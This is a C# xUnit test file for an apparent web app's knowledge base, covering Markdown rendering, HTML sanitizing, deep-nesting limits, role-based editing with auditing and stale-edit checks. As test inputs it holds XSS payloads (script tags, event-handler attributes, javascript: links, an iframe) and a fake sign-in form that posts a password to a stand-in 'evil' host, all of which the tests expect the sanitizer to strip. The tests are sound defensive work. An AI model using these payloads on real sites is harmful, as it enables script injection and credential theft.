using System.Net;
using System.Text.RegularExpressions;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using UpworkAssist.Web.Data;
using UpworkAssist.Web.Features.Knowledge;
using UpworkAssist.Web.Tests.Features.Compliance;
using UpworkAssist.Web.Tests.Infrastructure;

namespace UpworkAssist.Web.Tests.Features.Knowledge;

/// <summary>
/// The knowledge base through its pages: starter pages, Markdown rendering, sanitizing, editing roles.
/// </summary>
public sealed partial class KnowledgeBaseTests(ComplianceApp app) : IClassFixture<ComplianceApp>
{
    [GeneratedRegex(
        "<article class=\"knowledge\" data-testid=\"knowledge-body\">(.*?)</article>",
        RegexOptions.Singleline
    )]
    private static partial Regex Body();

    private static async Task<string> BodyAsync(HttpClient browser, string slug)
    {
        var html = await browser.GetStringAsync($"/Knowledge/Read?slug={slug}");
        return Body().Match(html).Groups[1].Value;
    }

    private static (string, string)[] Page(string slug, string markdown, string title = "A page") =>
        [("Input.Title", title), ("Input.Slug", slug), ("Input.Markdown", markdown), ("Input.Version", "0")];

    [Fact]
    public async Task Starter_pages_are_there_for_everyone_signed_in()
    {
        var freelancer = await app.SignedInAsync("Freelancer");
        var index = await freelancer.GetStringAsync("/Knowledge");
        foreach (var starter in StarterPages.All)
        {
            Assert.Contains(WebUtility.HtmlEncode(starter.Title), index, StringComparison.Ordinal);
        }
        var body = await BodyAsync(freelancer, "how-upworkassist-stays-compliant");
        Assert.Contains("<h2", body, StringComparison.Ordinal);
        Assert.Contains("<strong>official GraphQL API</strong>", body, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Scripts_event_handlers_and_javascript_links_are_removed_and_ordinary_markdown_stays()
    {
        var lead = await app.SignedInAsync("Lead");
        const string markdown = """
            # Safe heading

            A [good link](https://example.test/sop) and a [bad link](javascript:alert(1)).

            <script>alert('xss')</script>
            <img src="https://example.test/a.png" onerror="alert(2)" alt="pic">
            <a href="javascript:alert(3)" onclick="alert(4)">raw link</a>
            <a href="JaVaScRiPt:alert(5)">mixed case</a>
            <div onmouseover="alert(6)" style="background:url(javascript:alert(7))">hover</div>
            <iframe src="https://evil.example.test"></iframe>

            - [x] done item
            """;
        var saved = await lead.SubmitAsync("/Knowledge/Edit", Page("xss-check", markdown));
        Assert.Equal(HttpStatusCode.Redirect, saved.StatusCode);
        Assert.Equal("/Knowledge/Read?slug=xss-check", saved.Location());

        var body = await BodyAsync(lead, "xss-check");
        Assert.Contains("Safe heading</h1>", body, StringComparison.Ordinal);
        Assert.Contains("href=\"https://example.test/sop\"", body, StringComparison.Ordinal);
        Assert.Contains("src=\"https://example.test/a.png\"", body, StringComparison.Ordinal);
        Assert.Contains("hover", body, StringComparison.Ordinal);
        Assert.DoesNotContain("<script", body, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<iframe", body, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("javascript:", body, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotMatch("(?i)\\son[a-z]+\\s*=", body);
        Assert.DoesNotContain(
            "alert(",
            body.Replace("alert('xss')", "", StringComparison.Ordinal),
            StringComparison.Ordinal
        );
    }

    [Fact]
    public async Task Forms_their_controls_and_name_attributes_are_removed_and_checklists_keep_their_boxes()
    {
        var lead = await app.SignedInAsync("Lead");
        const string markdown = """
            Sign in again to read this page:

            <form action="https://evil.example.test/steal" method="post"><input name="password" type="password">
            <button formaction="https://evil.example.test">Sign in</button><select name="s"><option>a</option></select>
            <textarea name="t">x</textarea></form>
            <img name="getElementById" src="https://example.test/a.png" alt="clobber">

            - [x] done item
            - [ ] open item
            """;
        Assert.Equal(
            HttpStatusCode.Redirect,
            (await lead.SubmitAsync("/Knowledge/Edit", Page("form-check", markdown))).StatusCode
        );

        var body = await BodyAsync(lead, "form-check");
        foreach (var tag in new[] { "<form", "<input", "<button", "<select", "<option", "<textarea" })
        {
            Assert.DoesNotContain(tag, body, StringComparison.OrdinalIgnoreCase);
        }
        Assert.DoesNotMatch("(?i)\\sname\\s*=", body);
        Assert.DoesNotContain("evil.example.test", body, StringComparison.Ordinal);
        Assert.Contains("src=\"https://example.test/a.png\"", body, StringComparison.Ordinal);
        Assert.Contains("☑ done item", body, StringComparison.Ordinal);
        Assert.Contains("☐ open item", body, StringComparison.Ordinal);
    }

    public static TheoryData<string> Nested() =>
        [
            new string('>', 5_000) + " deep quote",
            string.Concat(Enumerable.Range(0, 250).Select(i => new string(' ', i * 3) + "- item\n")),
            new string('[', 20_000) + "x" + new string(']', 20_000),
            string.Concat(Enumerable.Repeat("<div>", 15_000)) + "x",
            string.Concat(Enumerable.Repeat("*a ", 30_000)),
        ];

    [Theory]
    [MemberData(nameof(Nested))]
    public async Task Markdown_nested_too_deeply_to_render_is_refused_on_save_and_never_fails_a_read(string markdown)
    {
        var lead = await app.SignedInAsync("Lead");
        var slug = "deep-" + Guid.NewGuid().ToString("n")[..8];
        var saved = await lead.SubmitAsync("/Knowledge/Edit", Page(slug, markdown));
        var renders = app.Services.GetRequiredService<MarkdownRenderer>().TryToSafeHtml(markdown, out _);
        if (renders)
        {
            Assert.Equal(HttpStatusCode.Redirect, saved.StatusCode);
        }
        else
        {
            Assert.Equal(HttpStatusCode.OK, saved.StatusCode);
            Assert.Contains("nested too deeply", await saved.Content.ReadAsStringAsync(), StringComparison.Ordinal);
            await app.WithDbAsync(async db => Assert.False(await db.KnowledgePages.AnyAsync(p => p.Slug == slug)));
            // A page stored before the check (an older version, or the database edited by hand) still reads.
            await app.WithDbAsync(async db =>
            {
                db.KnowledgePages.Add(
                    new KnowledgePage
                    {
                        Slug = slug,
                        Title = "Deep",
                        Markdown = markdown,
                        UpdatedBy = "old version",
                    }
                );
                await db.SaveChangesAsync();
            });
        }
        var read = await lead.GetAsync($"/Knowledge/Read?slug={slug}");
        Assert.Equal(HttpStatusCode.OK, read.StatusCode);
        Assert.Equal(
            !renders,
            (await read.Content.ReadAsStringAsync()).Contains("data-testid=\"unrenderable\"", StringComparison.Ordinal)
        );
    }

    [Fact]
    public void The_deepest_case_really_cannot_render()
    {
        // Guards the theory above: at least one input takes the refusal path.
        Assert.Contains(
            ((IEnumerable<object[]>)Nested()).Select(row => (string)row[0]),
            markdown => !new MarkdownRenderer().TryToSafeHtml(markdown, out _)
        );
    }

    [Fact]
    public async Task Leads_and_admins_edit_pages_and_the_change_is_audited_but_freelancers_and_managers_cannot()
    {
        var admin = await app.SignedInAsync("Admin");
        Assert.Equal(
            HttpStatusCode.Redirect,
            (await admin.SubmitAsync("/Knowledge/Edit", Page("team-sop", "First version", "Team SOP"))).StatusCode
        );
        var edit = "/Knowledge/Edit?slug=team-sop";
        var second = await admin.SubmitToAsync(
            edit,
            edit,
            [
                ("Input.Title", "Team SOP"),
                ("Input.Slug", "team-sop"),
                ("Input.Markdown", "Second **version**"),
                ("Input.Version", "1"),
            ]
        );
        Assert.Equal(HttpStatusCode.Redirect, second.StatusCode);
        Assert.Contains("<strong>version</strong>", await BodyAsync(admin, "team-sop"), StringComparison.Ordinal);
        await app.WithDbAsync(async db =>
        {
            var actions = await db
                .AuditEvents.Where(a => a.SubjectType == "knowledge" && a.SubjectId == "team-sop")
                .Select(a => a.Action)
                .ToListAsync();
            Assert.Equal(["knowledge.page_created", "knowledge.page_updated"], actions);
        });
        foreach (var role in new[] { "Freelancer", "Manager" })
        {
            var reader = await app.SignedInAsync(role);
            Assert.Equal(HttpStatusCode.OK, (await reader.GetAsync("/Knowledge/Read?slug=team-sop")).StatusCode);
            Assert.Equal(HttpStatusCode.Forbidden, (await reader.GetAsync(edit)).StatusCode);
            var token = await reader.AntiforgeryTokenAsync("/Knowledge");
            var post = await reader.PostAsync(
                edit,
                new FormUrlEncodedContent(
                    Page("team-sop", "<script>x</script>")
                        .Select(f => new KeyValuePair<string, string>(f.Item1, f.Item2))
                        .Append(new("__RequestVerificationToken", token))
                )
            );
            Assert.Equal(HttpStatusCode.Forbidden, post.StatusCode);
        }
    }

    [Fact]
    public async Task A_stale_edit_is_refused_instead_of_overwriting_someone_elses_save()
    {
        var lead = await app.SignedInAsync("Lead");
        await lead.SubmitAsync("/Knowledge/Edit", Page("stale-check", "v1"));
        var edit = "/Knowledge/Edit?slug=stale-check";
        Assert.Equal(
            HttpStatusCode.Redirect,
            (
                await lead.SubmitToAsync(
                    edit,
                    edit,
                    [
                        ("Input.Title", "A page"),
                        ("Input.Slug", "stale-check"),
                        ("Input.Markdown", "v2"),
                        ("Input.Version", "1"),
                    ]
                )
            ).StatusCode
        );
        var stale = await lead.SubmitToAsync(
            edit,
            edit,
            [
                ("Input.Title", "A page"),
                ("Input.Slug", "stale-check"),
                ("Input.Markdown", "v3 from an old tab"),
                ("Input.Version", "1"),
            ]
        );
        Assert.Equal(HttpStatusCode.OK, stale.StatusCode);
        Assert.Contains(
            "Someone saved this page after you opened it",
            await stale.Content.ReadAsStringAsync(),
            StringComparison.Ordinal
        );
        Assert.Contains("v2", await BodyAsync(lead, "stale-check"), StringComparison.Ordinal);
    }
}
